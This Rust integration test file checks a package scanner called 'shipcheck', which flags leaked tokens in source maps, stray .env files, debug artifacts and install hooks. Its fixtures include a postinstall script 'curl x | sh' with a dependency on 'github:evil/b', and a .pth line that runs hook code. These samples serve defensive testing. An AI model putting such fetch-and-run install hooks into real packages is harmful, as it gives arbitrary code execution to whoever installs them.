//! What `check`'s rules find end to end: the incident package, a new install script against
//! the baseline, source maps (index maps, exact columns), native debug leftovers, install
//! scripts of crates, sdists and wheels, the rules catalogue, and the review path agreeing
//! with the streaming one.

mod common;

use std::path::Path;

use assert_cmd::Command;
use common::fixtures::{self, tgz_as_stored_v7, write};
use common::{find, json_of, leaky, shipcheck_in, token};
use serde_json::Value;

#[test]
fn the_incident_package_fails_with_precise_findings() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = leaky(dir.path());
    let (v, code) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
    assert_eq!(code, 1, "critical findings exit 1");
    let maps = find(&v, "sourcemap-embedded-sources");
    assert_eq!(maps.len(), 1);
    let e = &maps[0]["evidence"];
    assert_eq!(
        (e["sources"].as_u64(), e["embedded_sources"].as_u64()),
        (Some(3), Some(3))
    );
    assert_eq!(e["first_party"]["files"], 2);
    assert_eq!(e["third_party"]["files"], 1);
    assert_eq!(e["embedded_lines"], 42 + 1 + 1);
    let secret = find(&v, "secret-github-pat");
    assert_eq!(secret.len(), 1, "{v}");
    assert_eq!(secret[0]["path"], "dist/cli.js.map");
    assert_eq!(secret[0]["inner"], "src/auth/token.ts");
    assert_eq!(secret[0]["line"], 42);
    let env = find(&v, "sensitive-file");
    assert!(
        env.iter()
            .any(|f| f["path"] == "vendor/inner.tgz" && f["inner"] == ".env"),
        "nested .env found: {env:?}"
    );
    assert_eq!(find(&v, "nested-archive").len(), 1);
    assert_eq!(find(&v, "install-script")[0]["severity"], "high");
    let refs = find(&v, "sourcemap-reference");
    assert_eq!(refs[0]["severity"], "info", "the referenced map ships");
    assert!(v["summary"]["critical"].as_u64() >= Some(2));
}

#[test]
fn a_new_install_script_against_the_baseline_is_critical() {
    let dir = tempfile::tempdir().expect("tempdir");
    let old = write(
        dir.path(),
        "a-1.0.0.tgz",
        &tgz_as_stored_v7(&[(
            "package/package.json",
            br#"{"name":"a","version":"1.0.0","files":["x"]}"#.as_slice(),
        )]),
    );
    let new = write(
        dir.path(),
        "a-1.0.1.tgz",
        &tgz_as_stored_v7(&[
            ("package/package.json", br#"{"name":"a","version":"1.0.1","files":["x"],"scripts":{"postinstall":"curl x | sh"},"dependencies":{"b":"github:evil/b"}}"#.as_slice()),
        ]),
    );
    let (v, code) = json_of(
        dir.path(),
        &[
            new.to_str().expect("utf-8"),
            "--baseline",
            old.to_str().expect("utf-8"),
        ],
    );
    assert_eq!(code, 1);
    assert_eq!(find(&v, "install-script")[0]["severity"], "critical");
    assert_eq!(find(&v, "new-dependency")[0]["severity"], "high");
    assert_eq!(v["baseline"]["version"], "1.0.0");
    assert!(v["diff"]["totals"].is_object());
    let md = shipcheck_in(dir.path())
        .args(["check", "--format", "markdown"])
        .arg(&new)
        .arg("--baseline")
        .arg(&old)
        .output()
        .expect("runs");
    let md = String::from_utf8_lossy(&md.stdout);
    assert!(md.contains("| files | 1 | 1 | +0 |"), "delta table: {md}");
}

/// An index map (`sections`) holding the token in its second section, a `url` section and a
/// nested index map, which the spec forbids.
fn index_map_with_secret() -> Vec<u8> {
    let section = |line: u32, sources: &[&str], contents: &[String]| {
        serde_json::json!({ "offset": { "line": line, "column": 0 },
            "map": { "version": 3, "sources": sources, "sourcesContent": contents, "mappings": "AAAA" } })
    };
    serde_json::to_vec(&serde_json::json!({
        "version": 3,
        "file": "app.js",
        "sections": [
            section(0, &["webpack://app/./src/main.ts"], &["main();\n".to_owned()]),
            section(10, &["webpack://app/./src/auth/token.ts", "webpack://app/../node_modules/d/i.js"],
                    &[format!("// auth\nexport const token = \"{}\";\n", token()), "dep\n".to_owned()]),
            { "offset": { "line": 20, "column": 0 }, "url": "vendor.js.map" },
            { "offset": { "line": 30, "column": 0 }, "map": { "version": 3, "sections": [] } },
        ],
    }))
    .expect("map JSON")
}

#[test]
fn an_index_map_is_measured_and_scanned_through_its_sections() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = write(
        dir.path(),
        "idx-1.0.0.tgz",
        &tgz_as_stored_v7(&[
            (
                "package/package.json",
                br#"{"name":"idx","version":"1.0.0","files":["dist"]}"#.as_slice(),
            ),
            // Named like data, not like a map: recognised by its content.
            ("package/dist/app.js.json", &index_map_with_secret()),
        ]),
    );
    let (v, code) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
    assert_eq!(code, 1, "embedded sources and a token fail the check");
    let maps = find(&v, "sourcemap-embedded-sources");
    assert_eq!(maps.len(), 1, "{v}");
    let e = &maps[0]["evidence"];
    assert_eq!(e["sources"], 3);
    assert_eq!(e["embedded_sources"], 3);
    assert_eq!(e["embedded_lines"], 4);
    assert_eq!(e["first_party"]["files"], 2);
    assert_eq!(e["third_party"]["files"], 1);
    assert_eq!(e["index_map"]["sections"], 4);
    assert_eq!(e["index_map"]["url_sections"], 1);
    assert_eq!(e["index_map"]["nested_index_maps"], 1);
    let message = maps[0]["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("1 nested index maps (invalid) not read"),
        "{message}"
    );
    let secret = find(&v, "secret-github-pat");
    assert_eq!(secret.len(), 1, "{v}");
    assert_eq!(secret[0]["path"], "dist/app.js.json");
    assert_eq!(secret[0]["inner"], "src/auth/token.ts");
    assert_eq!(secret[0]["line"], 2);
    assert!(find(&v, "sourcemap-file").is_empty(), "one finding per map");
}

#[test]
fn a_secret_in_an_embedded_source_has_its_exact_column() {
    let line = format!(
        "\tconst s = \"caf\u{e9} \\ \u{1F600}\"; const t = \"{}\";",
        token()
    );
    let source = format!("// first\n{line}\n");
    // serde_json writes é and the emoji raw; a bundler often writes `\uXXXX`: do both.
    let content = serde_json::to_string(&source)
        .expect("a JSON string")
        .replace('\u{e9}', "\\u00e9")
        .replace('\u{1F600}', "\\ud83d\\ude00");
    assert!(content.contains(r"\t") && content.contains(r#"\""#) && content.contains(r"\\"));
    let map = format!(
        r#"{{"version":3,"sources":["src/k.ts"],"sourcesContent":[{content}],"mappings":"AAAA"}}"#
    );
    let dir = tempfile::tempdir().expect("tempdir");
    let f = write(
        dir.path(),
        "col-1.0.0.tgz",
        &tgz_as_stored_v7(&[
            (
                "package/package.json",
                br#"{"name":"col","version":"1.0.0","files":["dist"]}"#.as_slice(),
            ),
            ("package/dist/k.js.map", map.as_bytes()),
        ]),
    );
    let (v, _) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
    let secret = find(&v, "secret-github-pat");
    assert_eq!(secret.len(), 1, "{v}");
    let column = line.find(&token()).expect("token on the line") + 1;
    assert_eq!(
        (secret[0]["line"].as_u64(), secret[0]["column"].as_u64()),
        (Some(2), Some(column as u64)),
        "line and column in the source as written (bytes, like every other finding), \
         not in its JSON-escaped form"
    );
}

#[test]
fn native_debug_leftovers_are_found_by_content_and_stripped_addons_pass() {
    let dir = tempfile::tempdir().expect("tempdir");
    let unstripped = fixtures::elf(3, &[".text", ".debug_info", ".debug_line"], true, true);
    let stripped = fixtures::elf(3, &[".text", ".dynsym", ".symtab"], true, true);
    let f = write(
        dir.path(),
        "native-1.0.0.tgz",
        &fixtures::tgz(&[
            (
                b"package.json",
                br#"{"name":"native","version":"1.0.0","files":["prebuilds","build"]}"#,
            ),
            (b"prebuilds/linux-x64/native.node", &stripped),
            (b"build/Release/native.node", &unstripped),
            (b"build/Release/obj/crash.dat", &fixtures::minidump()),
            (b"build/Release/native.sym", &fixtures::pdb()),
        ]),
    );
    let (v, code) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
    assert_eq!(code, 1, "a crash dump fails the check");
    let found: Vec<(&str, &str, &str)> = find(&v, "debug-artifact")
        .iter()
        .map(|f| {
            (
                f["path"].as_str().unwrap_or_default(),
                f["severity"].as_str().unwrap_or_default(),
                f["evidence"]["kind"].as_str().unwrap_or_default(),
            )
        })
        .collect();
    assert_eq!(
        found,
        [
            ("build/Release/native.sym", "high", "pdb"),
            ("build/Release/obj/crash.dat", "high", "crash-dump"),
            ("build/Release/native.node", "medium", "unstripped-binary"),
        ],
        "by content whatever the name; the stripped prebuild is not reported: {v}"
    );
    let unstripped = find(&v, "debug-artifact")
        .into_iter()
        .find(|f| f["severity"] == "medium")
        .expect("the unstripped addon");
    assert_eq!(
        unstripped["evidence"]["debug_sections"],
        serde_json::json!([".debug_info", ".debug_line"])
    );
}

/// One `install-script` finding of `check --format json`.
#[derive(Debug)]
struct Install {
    path: String,
    line: Option<u64>,
    severity: String,
    message: String,
}

/// The `install-script` findings of checking `args[0]` (against `args[1]`), and the exit code.
fn install_findings(dir: &Path, args: &[&Path]) -> (Vec<Install>, i32) {
    let args: Vec<&str> = args.iter().map(|p| p.to_str().expect("utf-8")).collect();
    let mut all = vec![args[0]];
    if let Some(base) = args.get(1) {
        all.extend(["--baseline", base]);
    }
    let (v, code) = json_of(dir, &all);
    let text = |f: &Value, k: &str| f[k].as_str().unwrap_or_default().to_owned();
    let found = find(&v, "install-script")
        .iter()
        .map(|f| Install {
            path: text(f, "path"),
            line: f["line"].as_u64(),
            severity: text(f, "severity"),
            message: text(f, "message"),
        })
        .collect();
    (found, code)
}

#[test]
fn a_crate_s_build_script_is_reported_and_critical_when_new() {
    let dir = tempfile::tempdir().expect("tempdir");
    let old = write(
        dir.path(),
        "c-0.1.0.crate",
        &fixtures::crate_file("c", "0.1.0"),
    );
    let new = write(
        dir.path(),
        "c-0.1.1.crate",
        &fixtures::crate_with("c", "0.1.1", "", &[("build.rs", b"fn main() {}\n")]),
    );
    let (found, code) = install_findings(dir.path(), &[&new]);
    assert_eq!(
        code, 0,
        "medium does not fail the default threshold: {found:?}"
    );
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(
        (found[0].path.as_str(), found[0].severity.as_str()),
        ("build.rs", "medium")
    );
    let (found, code) = install_findings(dir.path(), &[&new, &old]);
    assert_eq!(code, 1, "a new build script fails the check");
    assert_eq!(found[0].severity, "critical");
    assert!(
        found[0].message.contains("new since the baseline"),
        "{}",
        found[0].message
    );
    let off = write(
        dir.path(),
        "c-0.1.2.crate",
        &fixtures::crate_with(
            "c",
            "0.1.2",
            "build = false",
            &[("build.rs", b"fn main() {}\n")],
        ),
    );
    assert!(
        install_findings(dir.path(), &[&off]).0.is_empty(),
        "build = false"
    );
}

#[test]
fn an_sdist_runs_setup_py_and_a_declarative_one_only_its_backend() {
    let dir = tempfile::tempdir().expect("tempdir");
    let legacy = write(
        dir.path(),
        "demo-1.0.tar.gz",
        &fixtures::sdist("demo", "1.0"),
    );
    let (found, code) = install_findings(dir.path(), &[&legacy]);
    assert_eq!(
        code, 0,
        "setup.py is medium: every setuptools sdist runs it, so it alone does not fail"
    );
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(
        (found[0].path.as_str(), found[0].severity.as_str()),
        ("setup.py", "medium")
    );
    assert!(
        found[0]
            .message
            .contains("setuptools.build_meta:__legacy__"),
        "{}",
        found[0].message
    );
    let flit = write(
        dir.path(),
        "demo-1.1.tar.gz",
        &fixtures::sdist_with(
            "demo",
            "1.1",
            &[(
                "pyproject.toml",
                b"[build-system]\nrequires = [\"flit_core >=3.2\"]\nbuild-backend = \"flit_core.buildapi\"\n",
            )],
        ),
    );
    let (found, code) = install_findings(dir.path(), &[&flit]);
    assert_eq!(code, 0);
    assert_eq!(
        (found[0].path.as_str(), found[0].severity.as_str()),
        ("pyproject.toml", "info")
    );
    let (found, _) = install_findings(dir.path(), &[&legacy, &flit]);
    assert_eq!(
        found[0].severity, "critical",
        "setup.py is new against the flit release"
    );
}

#[test]
fn a_wheel_s_pth_import_line_is_high_with_its_line() {
    let dir = tempfile::tempdir().expect("tempdir");
    let hook = write(
        dir.path(),
        "demo-1.0-py3-none-any.whl",
        &fixtures::wheel_with(
            "demo",
            "1.0",
            &[(
                "demo_hook.pth",
                b"/opt/demo\nimport demo._hook; demo._hook.run()\n",
            )],
        ),
    );
    let (found, code) = install_findings(dir.path(), &[&hook]);
    assert_eq!(code, 1);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(
        (
            found[0].path.as_str(),
            found[0].line,
            found[0].severity.as_str()
        ),
        ("demo_hook.pth", Some(2), "high")
    );
    assert!(
        found[0]
            .message
            .contains("import demo._hook; demo._hook.run()"),
        "{}",
        found[0].message
    );
    let paths_only = write(
        dir.path(),
        "demo-1.1-py3-none-any.whl",
        &fixtures::wheel_with("demo", "1.1", &[("demo.pth", b"/opt/demo\n")]),
    );
    assert!(install_findings(dir.path(), &[&paths_only]).0.is_empty());
}

#[test]
fn rules_catalogue_and_docs_do_not_drift() {
    let out = Command::cargo_bin("shipcheck")
        .expect("binary")
        .args(["rules", "--format", "json"])
        .output()
        .expect("runs");
    let rules: Value = serde_json::from_slice(&out.stdout).expect("JSON");
    assert!(
        rules.as_array().map_or(0, Vec::len) >= 55,
        "every rule and secret format listed"
    );
    let md = Command::cargo_bin("shipcheck")
        .expect("binary")
        .args(["rules", "--format", "markdown"])
        .output()
        .expect("runs");
    let generated = String::from_utf8_lossy(&md.stdout).into_owned();
    for file in ["docs/rules.md", "README.md"] {
        let doc = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join(file))
            .expect("the rule list's file");
        let start = doc.find("<!-- rules:start -->\n").expect("start marker")
            + "<!-- rules:start -->\n".len();
        let end = doc.find("<!-- rules:end -->").expect("end marker");
        assert_eq!(
            &doc[start..end],
            generated,
            "{file} is stale: regenerate with scripts/gen-rules-doc.sh"
        );
    }
}

#[test]
fn the_review_path_and_the_streaming_path_find_the_same_things() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = leaky(dir.path());
    let spec = f.to_str().expect("utf-8");
    let kept = shipcheck::artifact::open(
        spec,
        &shipcheck::artifact::Options {
            keep_contents: true,
            ..Default::default()
        },
        None,
    )
    .expect("opens");
    let reviewed = shipcheck::rules::evaluate(&kept, None).findings;
    let inputs = shipcheck::inputs::Inputs::prepare(
        &shipcheck::inputs::InputArgs::of(spec),
        shipcheck::artifact::Limits::default(),
        shipcheck::inputs::Contents::Stream,
    )
    .expect("inputs");
    let streamed = shipcheck::check::run(&inputs).expect("checks");
    assert!(reviewed.len() >= 7, "{reviewed:#?}");
    assert_eq!(
        reviewed, streamed.findings,
        "evaluate (review screen) and check (streaming) agree"
    );
}
